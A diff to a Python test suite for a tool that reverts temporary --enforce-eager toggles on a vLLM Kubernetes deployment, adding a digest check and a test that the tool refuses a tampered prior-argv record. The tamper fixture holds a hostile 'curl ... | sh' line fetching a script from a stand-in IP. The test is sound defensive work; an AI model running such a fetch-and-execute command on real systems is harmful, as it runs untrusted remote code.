@@ -3,8 +3,10 @@ cluster's own record (exact prior argv), a toggle not yet due is left alone, and
 
 from __future__ import annotations
 
+import hashlib
 import json
 import re
+import time
 from pathlib import Path
 
 from fixtures import pyinfra_run
@@ -15,6 +17,7 @@ from vllm_remedy.metrics import OVERRIDE_EXPIRY, REMEDIATIONS, parse_samples
 
 rehearsal = pyinfra_run.rehearsal
 EXPIRES, PRIOR = "vllm-remedy.io/enforce-eager-expires", "vllm-remedy.io/enforce-eager-prior"
+DIGEST = "vllm-remedy.io/enforce-eager-digest"
 PRIOR_JSON = json.dumps({"args": GOOD_ARGS, "command": ["vllm", "serve"], "container": "vllm"}, sort_keys=True,
                         separators=(",", ":"))
 
@@ -22,8 +25,17 @@ PRIOR_JSON = json.dumps({"args": GOOD_ARGS, "command": ["vllm", "serve"], "conta
 def dead_process_toggle(rehearsal: Rehearsal, offset: float) -> str:
     """What `deploys/enforce_eager.py` writes, written directly (the writer then 'dies'); expiry = now + offset."""
     expires = rfc3339(rehearsal.client().server_time() + offset)
-    set_args(rehearsal, [*GOOD_ARGS, "--enforce-eager"], notes={EXPIRES: expires, PRIOR: PRIOR_JSON})
+    # the digest covers the container as written, the toggle's own flag taken out
+    written = {"args": GOOD_ARGS, "command": ["vllm", "serve"], "container": "vllm",
+               "image": container(rehearsal)["image"]}
+    digest = json.dumps({"prior": sha256(json.loads(PRIOR_JSON)), "written": sha256(written)}, sort_keys=True,
+                        separators=(",", ":"))
+    set_args(rehearsal, [*GOOD_ARGS, "--enforce-eager"], notes={EXPIRES: expires, PRIOR: PRIOR_JSON, DIGEST: digest})
     return expires
+
+
+def sha256(value: object) -> str:
+    return "sha256:" + hashlib.sha256(json.dumps(value, sort_keys=True, separators=(",", ":")).encode()).hexdigest()
 
 
 def container(rehearsal: Rehearsal) -> dict:
@@ -36,8 +48,9 @@ def test_expire_reverts_a_dead_process_toggle_to_the_exact_prior_argv(rehearsal:
     inv = inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path))
     drift = as_json(cli("drift", "-i", inv, "-o", "json"))["hosts"][0]
     assert drift["drifted"] == ["enforce-eager"]
-    assert re.fullmatch(rf"toggle enforce-eager expired at {expires} \((\d+)m ago\): run `vllm-remedy expire` "
-                        r"\(restores the prior argv\)", drift["checks"][4]["detail"])  # the cluster runs 600x
+    # the cluster runs 600x: on a loaded machine the drift run can start more than a cluster hour later
+    assert re.fullmatch(rf"toggle enforce-eager expired at {expires} \(((\d+)h)?(\d+)m ago\): run `vllm-remedy "
+                        r"expire` \(restores the prior argv\)", drift["checks"][4]["detail"])
     revert = next(op for op in drift["fix"]["operations"] if op["operation"] == "Revert expired temporary toggles")
     assert revert["changes"] is True and "-    - --enforce-eager" in revert["lines"]
 
@@ -54,8 +67,9 @@ def test_expire_reverts_a_dead_process_toggle_to_the_exact_prior_argv(rehearsal:
     c = container(rehearsal)
     assert (c["command"], c["args"]) == (["vllm", "serve"], GOOD_ARGS)
     notes = rehearsal.client().get_deployment("llm", "llama-8b")["metadata"]["annotations"]
-    assert EXPIRES not in notes and PRIOR not in notes
+    assert EXPIRES not in notes and PRIOR not in notes and DIGEST not in notes
     assert notes["vllm-remedy.io/last-action"] == "expire"
+    assert any("enforce-eager: restore the exact argv from before --enforce-eager" in line for line in host["lines"])
     assert {k: v for k, v in parse_samples(prom.read_text(), REMEDIATIONS).items()} == {("expire", "applied"): 1.0}
 
     again = cli("expire", "-i", inv)
@@ -91,3 +105,33 @@ def test_permanent_eager_mode_is_drift_that_expire_does_not_touch(rehearsal: Reh
     assert drift["checks"][4]["detail"].startswith("--enforce-eager is on with no timed toggle recorded")
     assert as_json(cli("expire", "-i", inv, "-o", "json"))["hosts"][0]["status"] == "Unchanged"
     assert container(rehearsal)["args"] == [*GOOD_ARGS, "--enforce-eager"]
+
+
+def test_expire_never_restores_a_tampered_prior_argv(rehearsal: Rehearsal, tmp_path: Path, cli) -> None:
+    """The toggle the eager deploy wrote, its prior record then swapped for a shell that fetches and runs a script
+    before exec'ing vLLM with the same flags and model: expire takes only the flag off and says why."""
+    from fixtures.budget_world import EAGER, LOCAL, rolled_out
+
+    got = rehearsal.pyinfra(LOCAL, EAGER, "-y", "--data", "eager_ttl=1m")
+    assert got.returncode == 0, got.stderr
+    expires = parse_rfc3339(rolled_out(rehearsal)["metadata"]["annotations"][EXPIRES])
+    evil = {"container": "vllm", "command": ["sh", "-c"],
+            "args": ["curl -s http://203.0.113.9/x | sh; exec vllm serve " + " ".join(GOOD_ARGS) + " --enforce-eager"]}
+
+    def tamper(dep: dict) -> None:
+        dep["metadata"]["annotations"][PRIOR] = json.dumps(evil, sort_keys=True, separators=(",", ":"))
+
+    rehearsal.change(tamper)
+    client = rehearsal.client()
+    while client.server_time() < expires:
+        time.sleep(0.05)
+    inv = inventory(tmp_path, rehearsal.kubeconfig, policy(tmp_path))
+    got = cli("expire", "-i", inv)
+    assert got.returncode == 0, got.stderr
+    said = [line for line in got.stdout.splitlines()
+            if "enforce-eager: remove --enforce-eager only" in line and ": written (" in line]
+    assert len(said) == 1 and "the prior-argv record does not match its digest" in said[0], got.stdout
+    c = container(rehearsal)
+    assert (c["command"], c["args"]) == (["vllm", "serve"], GOOD_ARGS)
+    notes = rehearsal.client().get_deployment("llm", "llama-8b")["metadata"]["annotations"]
+    assert not [k for k in notes if k.startswith("vllm-remedy.io/enforce-eager-")]
